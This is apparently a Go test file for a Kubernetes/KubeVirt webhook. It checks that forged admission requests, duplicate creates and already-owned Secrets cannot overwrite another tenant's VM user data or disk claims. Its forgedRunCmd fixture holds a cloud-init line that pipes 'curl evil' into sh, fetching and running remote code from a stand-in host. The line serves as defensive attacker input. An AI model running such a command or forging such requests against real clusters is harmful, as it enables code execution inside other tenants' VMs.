package envtest_test

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admission/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	kubevirtv1 "kubevirt.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/virtstation/virtstation/api"
	"github.com/virtstation/virtstation/claims"
	"github.com/virtstation/virtstation/userdata"
	"github.com/virtstation/virtstation/webhooks/mutate"
	"github.com/virtstation/virtstation/webhooks/validate"
)

// forgedRunCmd is the user data a forger wants to run in someone else's VM:
// over KubeVirt's 2,048-byte inline cap once merged, so the webhook would
// store it in the VM's <vm>-userdata Secret.
var forgedRunCmd = "#cloud-config\nruncmd:\n  - [sh, -c, 'curl evil | sh']\n" + "# " + strings.Repeat("x", 2500) + "\n"

// TestForgedAdmissionReviewsWriteNothing POSTs hand-built AdmissionReviews
// straight to the webhook server, as a pod that reaches the webhook Service
// could: an UPDATE of another tenant's VM (whose UID the forger cannot
// read), a CREATE of a VM that exists, and requests for a VM of another
// namespace. No Secret and no claim may change.
func TestForgedAdmissionReviewsWriteNothing(t *testing.T) {
	ctx := context.Background()
	victim := newNamespace(t, "victim")
	other := newNamespace(t, "other")
	createPVC(t, victim, "carol-home", true)
	createPVC(t, victim, "spare", true)
	createPVC(t, other, "other-home", true)
	for _, d := range []struct{ ns, name string }{{victim, "carol-home"}, {victim, "spare"}, {other, "other-home"}} {
		waitCached(t, &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Namespace: d.ns, Name: d.name}})
	}
	own := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: victim, Name: "carol-own"}, Data: map[string][]byte{"userdata": []byte("#!/bin/sh\necho carol\n")}}
	if err := env.Client.Create(ctx, own); err != nil {
		t.Fatal(err)
	}
	carol := newVM(victim, "dev-carol", managed, withAnnotation(api.AnnotationDataDisks, "carol-home:/home/carol"), withUserDataSecret("carol-own"))
	if err := env.Client.Create(ctx, carol); err != nil {
		t.Fatal(err)
	}
	secretKey := client.ObjectKey{Namespace: victim, Name: mutate.UserDataSecretName("dev-carol")}
	var before corev1.Secret
	eventually(t, 10*time.Second, func() error { // the reconciler writes it, owned by the VM
		if err := env.Client.Get(ctx, secretKey, &before); err != nil {
			return err
		}
		if metav1.GetControllerOf(&before) == nil {
			return fmt.Errorf("%s has no owner yet", secretKey)
		}
		return nil
	})

	// The forger's view of dev-carol: its name and namespace, a guessed UID
	// and resourceVersion, and its own user data.
	forged := func(ns, name string, disks string) *kubevirtv1.VirtualMachine {
		vm := newVM(ns, name, managed, withAnnotation(api.AnnotationDataDisks, disks), withUserData(forgedRunCmd))
		vm.UID, vm.ResourceVersion = "00000000-0000-0000-0000-000000000001", carol.ResourceVersion
		return vm
	}
	cases := map[string]struct {
		path     string
		op       admissionv1.Operation
		vm       *kubevirtv1.VirtualMachine
		wantCode int32
	}{
		"validating UPDATE of another tenant's VM, claiming its spare disk": {
			path: validate.VMPath, op: admissionv1.Update, vm: forged(victim, "dev-carol", "carol-home:/home/carol,spare:/spare"), wantCode: http.StatusConflict,
		},
		"validating CREATE of a VM that exists, claiming its spare disk": {
			path: validate.VMPath, op: admissionv1.Create, vm: forged(victim, "dev-carol", "spare:/spare"), wantCode: http.StatusConflict,
		},
		"validating UPDATE of a VM of another namespace that does not exist": {
			path: validate.VMPath, op: admissionv1.Update, vm: forged(other, "ghost", "other-home:/home"), wantCode: http.StatusConflict,
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			resp := postReview(t, tc.path, tc.op, tc.vm)
			if resp.Allowed || resp.Result == nil || resp.Result.Code != tc.wantCode {
				t.Fatalf("response = allowed %v, result %+v; want refused with %d", resp.Allowed, resp.Result, tc.wantCode)
			}
			if after := readSecret(t, secretKey); !bytes.Equal(after.Data["userdata"], before.Data["userdata"]) || after.ResourceVersion != before.ResourceVersion {
				t.Fatalf("%s changed (resourceVersion %s -> %s)", secretKey, before.ResourceVersion, after.ResourceVersion)
			}
			for _, d := range []client.ObjectKey{{Namespace: victim, Name: "spare"}, {Namespace: other, Name: "other-home"}} {
				if s := claimState(t, pvcRef(d.Namespace, d.Name)); len(s.Holders()) > 0 {
					t.Fatalf("%s is claimed by %v after a forged request", d, s.Holders())
				}
			}
			if s := claimState(t, pvcRef(victim, "carol-home")); !slicesEqual(s.Holders(), []string{claims.Name(types.NamespacedName{Namespace: victim, Name: "dev-carol"})}) {
				t.Fatalf("carol-home holders = %v, want only dev-carol", s.Holders())
			}
		})
	}

	// A real request still works: dev-carol's owner changes her user data.
	if err := env.Client.Get(ctx, client.ObjectKeyFromObject(carol), carol); err != nil {
		t.Fatal(err)
	}
	carol.Annotations[api.AnnotationDataDisks] = "carol-home:/home/carol,spare:/spare"
	if err := env.Client.Update(ctx, carol); err != nil {
		t.Fatalf("a real update was refused: %v", err)
	}
	if s := claimState(t, pvcRef(victim, "spare")); len(s.Holders()) != 1 {
		t.Fatalf("spare holders after a real update = %v, want dev-carol", s.Holders())
	}
}

// TestCreateOfAnExistingNameOverwritesNothing: `kubectl create` of a VM
// whose name is taken fails with AlreadyExists, and the existing VM's
// user-data Secret keeps its content.
func TestCreateOfAnExistingNameOverwritesNothing(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t, "recreate")
	createPVC(t, ns, "home", true)
	waitCached(t, pvcRef(ns, "home"))
	own := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "own"}, Data: map[string][]byte{"userdata": []byte("#!/bin/sh\necho first\n")}}
	if err := env.Client.Create(ctx, own); err != nil {
		t.Fatal(err)
	}
	first := newVM(ns, "dev", managed, withAnnotation(api.AnnotationDataDisks, "home:/home"), withUserDataSecret("own"))
	if err := env.Client.Create(ctx, first); err != nil {
		t.Fatal(err)
	}
	key := client.ObjectKey{Namespace: ns, Name: mutate.UserDataSecretName("dev")}
	eventually(t, 10*time.Second, func() error { return env.Client.Get(ctx, key, &corev1.Secret{}) })
	before := readSecret(t, key)

	second := newVM(ns, "dev", managed, withAnnotation(api.AnnotationDataDisks, "home:/home"), withUserData(forgedRunCmd))
	err := env.Client.Create(ctx, second)
	if !apierrors.IsAlreadyExists(err) {
		t.Fatalf("create of an existing name = %v, want AlreadyExists", err)
	}
	if after := readSecret(t, key); !bytes.Equal(after.Data["userdata"], before.Data["userdata"]) {
		t.Fatalf("%s was overwritten by a create that failed", key)
	}
}

func withUserDataSecret(name string) vmOption {
	return withCloudInit(kubevirtv1.CloudInitNoCloudSource{UserDataSecretRef: &corev1.LocalObjectReference{Name: name}})
}

func readSecret(t *testing.T, key client.ObjectKey) corev1.Secret {
	t.Helper()
	var s corev1.Secret
	if err := env.Client.Get(context.Background(), key, &s); err != nil {
		t.Fatal(err)
	}
	return s
}

func slicesEqual(a, b []string) bool {
	return strings.Join(a, ",") == strings.Join(b, ",")
}

// postReview POSTs an AdmissionReview for vm straight to the webhook
// server, bypassing the API server, and returns its response. On UPDATE the
// old object is vm itself.
func postReview(t *testing.T, path string, op admissionv1.Operation, vm *kubevirtv1.VirtualMachine) *admissionv1.AdmissionResponse {
	t.Helper()
	resp, _ := postForged(t, path, vm.Namespace, op, false, vm)
	return resp
}

// TestSecretOfAnotherLiveVMIsNeverOverwritten: a Virtstation Secret whose
// controller is another VM that exists is left alone: the VM is admitted
// (the webhook reads no Secret), and the user-data reconciler writes
// nothing over it and says why in a Warning Event on the VM.
func TestSecretOfAnotherLiveVMIsNeverOverwritten(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t, "owned")
	createPVC(t, ns, "home", true)
	waitCached(t, pvcRef(ns, "home"))
	holder := newVM(ns, "holder", managed)
	if err := env.Client.Create(ctx, holder); err != nil {
		t.Fatal(err)
	}
	yes := true
	s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{
		Namespace: ns, Name: mutate.UserDataSecretName("dev"),
		Labels:          map[string]string{api.LabelManagedBy: api.ManagedByValue},
		OwnerReferences: []metav1.OwnerReference{{APIVersion: "kubevirt.io/v1", Kind: "VirtualMachine", Name: "holder", UID: holder.UID, Controller: &yes}},
	}, Data: map[string][]byte{"userdata": []byte("#!/bin/sh\necho holder\n")}}
	if err := env.Client.Create(ctx, s); err != nil {
		t.Fatal(err)
	}
	dev := newVM(ns, "dev", managed, withAnnotation(api.AnnotationDataDisks, "home:/home"), withUserData(forgedRunCmd))
	if err := env.Client.Create(ctx, dev); err != nil {
		t.Fatalf("create: %v", err)
	}
	eventually(t, 15*time.Second, func() error {
		for _, e := range eventsFor(t, ns, "dev") {
			if e.Reason == userdata.ReasonSecretTaken {
				return nil
			}
		}
		return fmt.Errorf("no %s Event on dev yet", userdata.ReasonSecretTaken)
	})
	if got := readSecret(t, client.ObjectKeyFromObject(s)); string(got.Data["userdata"]) != "#!/bin/sh\necho holder\n" || got.ResourceVersion != s.ResourceVersion {
		t.Fatalf("the live VM's Secret was overwritten: %q", got.Data["userdata"])
	}
}
